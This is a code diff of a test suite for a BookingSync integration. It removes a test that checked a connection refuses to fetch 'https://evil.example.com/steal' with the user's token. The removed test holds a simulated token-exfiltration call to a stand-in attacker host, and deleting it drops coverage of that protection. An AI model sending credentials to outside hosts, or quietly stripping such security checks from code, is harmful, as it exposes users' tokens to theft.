@@ -94,16 +94,6 @@ describe('BookingSync through the library', () => {
     expect(fixture.emulator.stats().tokenRequests.refresh_token).toBe(1)
   })
 
-  it('refuses to send the token to a host that is not BookingSync', async () => {
-    fixture = await setup('bookingsync')
-    await connectBookingSync(fixture)
-    await expect(
-      fixture.keeper.connection('acme-bs/main').fetch('https://evil.example.com/steal'),
-    ).rejects.toMatchObject({
-      code: 'forbidden_host',
-    })
-  })
-
   it('passes a scope it does not list on to BookingSync with a warning, and reports the platform’s invalid_scope', async () => {
     fixture = await setup('bookingsync')
     await fixture.keeper.apps.add('acme-bs', appFor(fixture.emulator, 'bookingsync'))
